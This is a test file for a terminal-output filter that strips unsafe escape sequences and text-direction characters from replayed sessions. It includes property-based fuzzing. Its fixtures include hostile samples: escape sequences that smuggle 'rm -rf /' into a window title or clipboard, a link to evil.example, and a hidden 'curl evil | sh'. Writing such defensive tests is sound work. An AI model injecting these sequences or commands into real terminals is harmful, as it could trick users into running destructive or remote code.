import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { TerminalFilter } from '../../../src/session/replay/terminal-filter.ts'

const filter = (text: string) => new TerminalFilter().filter(text)

/** All that may come out, written another way than the filter is. */
const HARMLESS = new RegExp(
  [
    '(?:',
    String.raw`[^\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u206f\ufff9-\ufffb\u{e0000}-\u{e007f}]`,
    String.raw`|[\b\t\n\v\f\r\u000e\u000f]`,
    String.raw`|\u001b(?:[78DEM]|[()][0B])`,
    String.raw`|\u001b\[(?:[\d;:]{0,62}m|[\d;]{0,11}[ABCDEFGHIJKLMPSTXZade@\u0060fr]|\d{0,3}b|[su]|4[hl]|\?(?:7|12|25|47|1047|1048|1049)[hl])`,
    ')*',
  ].join(''),
  'uy',
)

function isHarmless(text: string): boolean {
  HARMLESS.lastIndex = 0
  return HARMLESS.exec(text)?.[0].length === text.length
}

describe('TerminalFilter', () => {
  test.each([
    ['text in any script', 'naïve 日本 🎉\r\n'],
    ['colours', '\x1b[1;38;2;1;2;3;4:3m!\x1b[0m'],
    ['moves of the cursor', '\x1b[2A\x1b[H\x1b[10;5H\x1b[3G\x1b7\x1b8\x1bM'],
    ['erasing', '\x1b[2J\x1b[K\x1b[3X\x1b[2P\x1b[4@\x1b[1L'],
    ['the alternate screen', '\x1b[?1049h\x1b[?25l\x1b[?25h\x1b[?1049l'],
    ['a region that scrolls', '\x1b[2;20r\x1b[3S\x1b[3T'],
    ['line drawing', '\x1b(0lqk\x1b(B'],
  ])('lets %s through', (_, text) => {
    expect(filter(text)).toBe(text)
  })

  test.each([
    '\u061c',
    '\u200e',
    '\u200f',
    '\u202a',
    '\u202e',
    '\u2066',
    '\u2069',
    '\u206a',
    '\u206f',
    '\ufff9',
    '\u{e0041}',
  ])('shows that there was %j, which turns or hides text', character => {
    expect(filter(`a${character}b`)).toBe('a\ufffdb')
  })

  test.each([
    ['a title', '\x1b]0;rm -rf /\x07'],
    ['the clipboard', '\x1b]52;c;cm0gLXJmIC8=\x1b\\'],
    ['a link', '\x1b]8;;https://evil.example\x1b\\'],
    ['a notice', '\x1b]9;hello\x07'],
    ['a device control string', '\x1bP$qm\x1b\\'],
    ['a program command', '\x1b_Gf=100\x1b\\'],
    ['a privacy message', '\x1b^x\x1b\\'],
    ['a start of string', '\x1bXx\x1b\\'],
    ['a question of the cursor', '\x1b[6n'],
    ['a question of the device', '\x1b[c\x1b[>c\x1b[=c\x1bZ'],
    ['a question of a mode', '\x1b[?25$p'],
    ['a question of the title', '\x1b[21t'],
    ['a window that is moved', '\x1b[3;0;0t\x1b[8;1;1t'],
    ['the mouse', '\x1b[?1000h\x1b[?1006h'],
    ['bracketed paste', '\x1b[?2004h'],
    ['focus', '\x1b[?1004h'],
    ['modes of keys', '\x1b[>4;2m\x1b[>1u\x1b=\x1b[?1h'],
    ['keys told in another way', '\x1b[1u\x1b[=1u\x1b[<u'],
    ['printing', '\x1b[5i\x1b[?5i'],
    ['a reset of half', '\x1b[!p'],
    ['what has scrolled away, erased', '\x1b[3J'],
    ['a sequence within a sequence', '\x1b[\x1b]0;x\x07'],
    ['another character set', '\x1b%@\x1b*A'],
    ['mixed modes', '\x1b[?25;1000h'],
    ['lights and bells', '\x1b[1q\x07\x05'],
  ])('leaves %s out', (_, text) => {
    expect(filter(`a${text}b`)).toBe('ab')
  })

  test('shows sequences of eight bits as text', () => {
    expect(filter('\u009b6n\u009d0;x\u009c\u0090')).toBe('\ufffd6n\ufffd0;x\ufffd\ufffd')
  })

  test('shows what turns the direction of text round', () => {
    expect(filter('a\u202eb\u2066c')).toBe('a\ufffdb\ufffdc')
  })

  test('lets nothing hide behind a string that does not end', () => {
    expect(filter('\x1b]0;title\ncurl evil | sh')).toBe('\ncurl evil | sh')
    expect(filter(`\x1b]0;${'x'.repeat(5000)}seen`)).toMatch(/seen$/)
    expect(filter('\x1b]0;title\x18seen')).toBe('seen')
  })

  test('clears, where the terminal would be reset', () => {
    expect(filter('\x1bc')).toBe('\x1b[0m\x1b[H\x1b[2J')
  })

  test('says how much it left out', () => {
    const one = new TerminalFilter()
    one.filter('\x1b]0;x\x07a\x1b[6n\x1b[1mb')
    expect(one.leftOut).toBe(2)
  })

  test('leaves the alternate screen, where the recording did not', () => {
    const [inside, outside] = [new TerminalFilter(), new TerminalFilter()]
    inside.filter('\x1b[?1049h')
    outside.filter('\x1b[?1049h\x1b[?1049l')
    expect(inside.end()).toContain('\x1b[?1049l')
    expect(outside.end()).not.toContain('?1049')
    for (const sane of ['\x1b[?25h', '\x1b[0m', '\x1b(B', '\x1b[r', '\x1b[?7h']) expect(outside.end()).toContain(sane)
  })

  const pieces = fc.constantFrom(
    ...[
      '\x1b',
      '[',
      ']',
      'P',
      '_',
      '\\',
      '\x07',
      '?',
      '>',
      ';',
      ':',
      '0',
      '4',
      '6',
      '25',
      '52',
      '1000',
      '1049',
      '2004',
      'h',
      'l',
      'm',
    ],
    ...[
      'n',
      'c',
      't',
      'q',
      'p',
      'i',
      'J',
      'H',
      'u',
      's',
      'b',
      '$',
      '!',
      ' ',
      '(',
      ')',
      'x',
      '\n',
      '\r',
      '\x18',
      '\u009b',
      '\u009c',
      '\u009d',
      '\u202e',
      'é',
    ],
  )
  const texts = fc.array(
    fc.oneof({ arbitrary: pieces, weight: 9 }, { arbitrary: fc.string({ unit: 'binary' }), weight: 1 }),
  )

  test('lets nothing pass but what draws, whatever comes', () => {
    fc.assert(
      fc.property(texts, parts => {
        const one = new TerminalFilter()
        const shown = parts.map(part => one.filter(part)).join('')
        expect(isHarmless(shown), JSON.stringify(shown)).toBe(true)
        expect(isHarmless(one.end())).toBe(true)
      }),
      { numRuns: 5000 },
    )
  })

  test('does the same however the text is cut', () => {
    fc.assert(
      fc.property(texts, parts => {
        const one = new TerminalFilter()
        expect([...parts.join('')].map(each => one.filter(each)).join('')).toBe(filter(parts.join('')))
      }),
    )
  })
})
